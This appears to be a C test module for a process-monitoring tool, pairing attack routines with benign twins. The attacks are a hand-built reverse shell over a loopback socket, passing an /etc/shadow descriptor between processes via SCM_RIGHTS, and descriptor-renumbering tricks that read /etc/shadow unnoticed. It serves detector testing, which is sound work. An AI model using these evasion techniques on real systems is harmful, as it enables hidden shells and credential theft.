// Files and connections that reach a process on other ways than its own open.
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

// The other end: says one line to whoever connects, and goes.
static void ServeOnce(int listener) {
  if (Need(fork(), "fork") != 0) return;
  const int peer = Need(accept(listener, NULL, NULL), "accept");
  if (write(peer, "true\n", 5) != 5) perror("write");
  close(peer);
  _exit(0);
}

// A reverse shell by hand: the shell's input, output and errors are the connection. No shell
// redirection, no /dev/tcp, no nc.
static void ConnectedShell(void) {
  const int fd = ConnectToLoopback(7004);
  for (int standard = 0; standard < 3; standard++) Need(dup2(fd, standard), "dup2");
  execv("/bin/sh", (char*[]){"sh", NULL});
}
static void DupSocket(void) {
  const int listener = ListenOnLoopback(7004);
  ServeOnce(listener);
  InChild(ConnectedShell);
  wait(NULL);
}
// A client that reads its answer and then runs a shell, which doesn't get the connection.
static void ClientThenShell(void) {
  char line[16];
  const int fd = ConnectToLoopback(7004);
  Need((int)read(fd, line, sizeof line), "read");
  execv("/bin/sh", (char*[]){"sh", "-c", "true", NULL});
}
static void DupSocketBenign(void) {
  const int listener = ListenOnLoopback(7004);
  ServeOnce(listener);
  InChild(ClientThenShell);
  wait(NULL);
}

// The reader never opens the file: another process does, and passes the fd.
static void Pass(const char* path) {
  int pair[2];
  Need(socketpair(AF_UNIX, SOCK_STREAM, 0, pair), "socketpair");
  char byte = 'x';
  struct iovec data = {&byte, 1};
  union {
    struct cmsghdr header;
    char space[CMSG_SPACE(sizeof(int))];
  } control = {0};
  struct msghdr message = {
      .msg_iov = &data, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
  if (Need(fork(), "fork") == 0) {
    close(pair[0]);
    Need((int)recvmsg(pair[1], &message, 0), "recvmsg");
    int fd;
    memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof fd);
    char text[64];
    Need((int)read(fd, text, sizeof text), "read");
    close(fd);
    _exit(0);
  }
  const int fd = Need(open(path, O_RDONLY), path);
  struct cmsghdr* header = CMSG_FIRSTHDR(&message);
  header->cmsg_level = SOL_SOCKET;
  header->cmsg_type = SCM_RIGHTS;
  header->cmsg_len = CMSG_LEN(sizeof fd);
  memcpy(CMSG_DATA(header), &fd, sizeof fd);
  Need((int)sendmsg(pair[0], &message, 0), "sendmsg");
  close(fd);
  wait(NULL);
}
static void ScmRights(void) {
  Pass("/etc/shadow");
}
static void ScmRightsBenign(void) {
  Pass("/etc/passwd");
}

// Numbers that change their meaning without a close: dup2 over an open fd, a copy far up,
// close_range.
static void Shuffle(const char* secret) {
  char text[64];
  const int innocent = Need(open("/etc/passwd", O_RDONLY), "open");
  const int fd = Need(open(secret, O_RDONLY), secret);
  Need(dup2(fd, innocent), "dup2");
  close(fd);
  Need((int)read(innocent, text, sizeof text), "read");
  const int high = Need(fcntl(innocent, F_DUPFD_CLOEXEC, 700), "fcntl");
  Need(dup3(high, 900, O_CLOEXEC), "dup3");
  Need((int)pread(900, text, sizeof text, 0), "pread");
  if (syscall(SYS_close_range, 3, 4095, 0) != 0) perror("close_range");
  // The number is free again, though no close told of it.
  ReadFile("/etc/group");
}
static void FdTricks(void) {
  Shuffle("/etc/shadow");
}
static void FdTricksBenign(void) {
  Shuffle("/etc/hostname");
}

const struct Attack kFdAttacks[] = {{"dup-socket", DupSocket, DupSocketBenign},
                                    {"scm-rights", ScmRights, ScmRightsBenign},
                                    {"fd-tricks", FdTricks, FdTricksBenign},
                                    {NULL, NULL, NULL}};
